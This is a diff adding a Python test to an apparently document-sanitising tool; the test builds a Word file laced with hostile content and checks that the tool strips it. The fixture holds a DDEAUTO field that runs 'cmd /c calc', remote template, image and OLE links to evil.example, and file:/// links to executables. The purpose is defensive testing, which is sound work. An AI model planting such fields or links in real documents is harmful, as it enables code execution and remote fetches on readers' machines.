@@ -49,6 +49,54 @@ def test_formulas_and_links_that_reach_outside_are_left_out(tmp_path: Path) -> N
     assert openpyxl.load_workbook(tmp_path / "批.xlsx").worksheets
 
 
+def _field(*instructions: str) -> str:
+    pieces = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in instructions)
+    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
+    return f"{mark.format('begin')}{pieces}{mark.format('separate')}<w:r><w:t>旧值</w:t></w:r>{mark.format('end')}"
+
+
+def test_links_and_fields_of_word_that_reach_outside_are_left_out(tmp_path: Path) -> None:
+    source = zipfile.ZipFile(SAMPLES / "云溪县教育局2025年项目绩效目标表.docx")
+    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    outside = {
+        "hyperlink": "file:///c:/windows/x.exe",
+        "attachedTemplate": "http://evil.example/t.dotm",
+        "image": "https://evil.example/p.png",
+        "oleObject": "http://evil.example/o.rtf",
+    }
+    links = "".join(
+        f'<Relationship Id="rIdX{number}" Type="{kinds}/{kind}" Target="{target}" TargetMode="External"/>'
+        for number, (kind, target) in enumerate(outside.items())
+    )
+    links += (
+        f'<Relationship Id="rIdW" Type="{kinds}/hyperlink" Target="https://www.mof.gov.cn/" TargetMode="External"/>'
+    )
+    fields = (
+        _field("DDEA", "UTO cmd ", '"/c calc"')
+        + _field(' INCLUDEPICTURE "http://evil.example/p" ')
+        + _field(' HYPERLINK "file:///c:/x.exe" ')
+        + _field(' HYPERLINK "https://www.mof.gov.cn/zt" ')
+        + _field(" PAGE ")
+        + '<w:fldSimple w:instr="LINK Excel c:/x.xls"><w:r><w:t>旧</w:t></w:r></w:fldSimple>'
+    )
+    path = tmp_path / "表.docx"
+    with zipfile.ZipFile(path, "w") as made:
+        for name in source.namelist():
+            body = source.read(name).decode() if name.endswith((".xml", ".rels")) else source.read(name)
+            if name == "word/document.xml":
+                body = str(body).replace("<w:sectPr", f"<w:p>{fields}</w:p><w:sectPr", 1)
+            elif name == "word/_rels/document.xml.rels":
+                body = str(body).replace("</Relationships>", f"{links}</Relationships>")
+            made.writestr(name, body)
+    with zipfile.ZipFile(io.BytesIO(annotated(path, tmp_path / "批.docx"))) as parts:
+        texts = "".join(parts.read(name).decode("utf-8", "replace") for name in parts.namelist())
+    assert not [gone for gone in ("evil.example", "file:///", "DDEA", "LINK Excel") if gone in texts]
+    assert "https://www.mof.gov.cn/zt" in texts
+    assert texts.count("https://www.mof.gov.cn/") == 2
+    assert " PAGE " in texts
+    assert texts.count("旧值") == 5
+
+
 def test_scripts_and_programs_of_a_pdf_are_left_out(tmp_path: Path) -> None:
     writer = pypdf.PdfWriter(clone_from=SAMPLES / "云溪县农业农村局2025年项目绩效目标表.pdf")
 
